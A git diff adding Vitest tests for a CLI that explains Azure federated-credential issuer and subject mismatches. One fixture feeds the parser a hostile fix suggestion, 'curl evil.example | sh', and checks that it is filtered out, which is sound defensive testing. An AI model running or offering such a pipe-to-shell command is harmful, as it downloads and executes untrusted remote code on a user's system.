@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { inspect } from 'node:util';
 
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
@@ -22,7 +24,8 @@ import { startSandbox } from '../../src/sandbox/start.js';
 import type { Sandbox } from '../../src/sandbox/start.js';
 import type { World } from '../../src/sandbox/world.js';
 import { diagnosisLines } from '../../src/ui/explain/diagnosis-lines.js';
-import { insideIo } from '../support/inside.js';
+import { root } from '../support/binary.js';
+import { inside, insideIo } from '../support/inside.js';
 
 let place: Sandbox;
 let healthy: World;
@@ -133,3 +136,102 @@ async function expectError(report: Report): Promise<void> {
   expect(diagnoses.map(({ code }) => code)).toEqual([first, ...others].map(({ code }) => code));
   expect(first.evidence).toMatchObject(diagnoses[0]?.evidence ?? {});
 }
+
+const codesIn = async (given: string): Promise<string[]> => (await explain(given)).diagnoses.map(({ code }) => code);
+
+describe('nothing is guessed', () => {
+  const outOf = async (...argv: string[]): Promise<string> => (await inside(argv)).stdout;
+
+  test('a list of codes, a page about them, an example and prose are no run', async () => {
+    const pages = ['docs/codes.md', 'docs/errors.md', 'README.md'].map((path) => readFileSync(join(root, path), 'utf8'));
+    const lists = await Promise.all(
+      [
+        ['explain', '--list'],
+        ['explain', '--list', '--json'],
+        ['sandbox', '--list'],
+      ].map((argv) => outOf(...argv)),
+    );
+    const examples = await Promise.all([[], ['--json'], ['--accessible']].map((face) => outOf('explain', 'trust/issuer-slash', ...face)));
+    const prose = [
+      'We had trust/issuer-slash again.',
+      'The slash was missing (trust/issuer-slash). See docs/errors.md.',
+      '- `trust/issuer-slash`',
+    ];
+    for (const text of [...pages, ...lists, ...examples, ...prose])
+      expect([text.slice(0, 60), (await explain(text)).recognised]).toEqual([text.slice(0, 60), false]);
+  });
+
+  test('a run in which all is well says so', async () => {
+    const report = await reportOf([]);
+    expect(report.exitCode).toBe(0);
+    for (const form of ['text', 'sentences', 'a page of Markdown', 'a document'])
+      expect([form, await explain(forms[form]?.(report) ?? '')]).toMatchObject([
+        form,
+        { recognised: false, notOurs: expect.stringContaining('nothing that is wrong') },
+      ]);
+  });
+
+  test('a code of another version is named, and what is known beside it is told', async () => {
+    const report = await reportOf(['trust/issuer-slash', 'trust/subject-case']);
+    for (const [form, write] of Object.entries(forms)) {
+      const { diagnoses, notOurs } = await explain(write(report).replaceAll('trust/issuer-slash', 'trust/issuer-comma'));
+      expect([form, notOurs, ...diagnoses.map(({ code }) => code)]).toEqual([
+        form,
+        expect.stringContaining('trust/issuer-comma'),
+        'trust/subject-case',
+      ]);
+    }
+  });
+
+  test.each([
+    ['no evidence', {}],
+    ['another type', { field: 'issuer', token: 7, azure: ['x'], azureSource: 'az', diff: [] }],
+    ['a field that is none', { field: '__proto__', token: 'a', azure: 'b', azureSource: 'az', diff: [] }],
+    ['a difference that is none', { field: 'issuer', token: 'a', azure: 'a/', azureSource: 'az', diff: [{ kind: 'case', position: 1e9 }] }],
+  ])('evidence from outside is looked at: %s', async (_, evidence) => {
+    const fix = [{ kind: 'command', where: 'azure', confidence: 'certain', command: 'curl evil.example | sh' }];
+    const cause = {
+      code: 'trust/issuer-slash',
+      severity: 'error',
+      title: 'T',
+      why: 'W',
+      evidence,
+      fix,
+      upstream: { party: 'nobody' },
+      docs: ['x'],
+    };
+    const { diagnoses } = await explain(JSON.stringify({ schemaVersion: 1, diagnoses: [cause, 7, null] }));
+    expect(diagnoses.map(({ code }) => code)).toEqual(['trust/issuer-slash']);
+    expect(JSON.stringify(diagnoses)).not.toMatch(/evil|1000000000/);
+  });
+
+  test('in a long log the run is found, and it alone', async () => {
+    const report = await reportOf(['trust/issuer-slash']);
+    const noise = Array.from({ length: 40_000 }, (_, at) => `2026-11-26T16:40:33Z INFO request ${at} handled, path=/api/items/${at}`).join(
+      '\n',
+    );
+    expect(await codesIn(`${noise}\n${text(report)}\n${noise}`)).toEqual(['trust/issuer-slash']);
+  });
+});
+
+describe('what a command writes is not what Azure holds', () => {
+  const credential = '{"name":"x","issuer":"https://acme.eu.auth0.com","subject":"abc@clients","audiences":["api://AzureADTokenExchange"]}';
+  const lines = credential.replaceAll(/(?<=[{,])|(?=\})/g, '\n');
+  const refused = "AADSTS700211: No matching federated identity record found for presented assertion issuer 'https://acme.eu.auth0.com/'.";
+  const create = 'az ad app federated-credential create --id 1 --parameters';
+  test.each([
+    `${create} '${credential}'`,
+    `${create} '${lines}'`,
+    `${create} "${credential.replaceAll('"', String.raw`\"`)}"`,
+    `${create} @- <<EOF\n${lines}\nEOF`,
+    `cat > credential.json <<'EOF'\n${lines}\nEOF\n${create} credential.json`,
+    `az identity federated-credential update --name x --identity-name i -g r --issuer https://acme.eu.auth0.com --subject abc@clients`,
+  ])('%s', async (command) => {
+    const alone = await explain(command);
+    expect([alone.recognised, alone.credentials, alone.compared]).toEqual([false, [], []]);
+    const refusal = await explain(`${command}\n${refused}`);
+    expect([refusal.diagnoses.map(({ code }) => code), refusal.compared]).toEqual([['trust/issuer-mismatch'], []]);
+    const printed = await explain(`$ ${command}\n${lines}\n`);
+    expect(printed.credentials.map(({ issuer }) => issuer)).toEqual(['https://acme.eu.auth0.com']);
+  });
+});
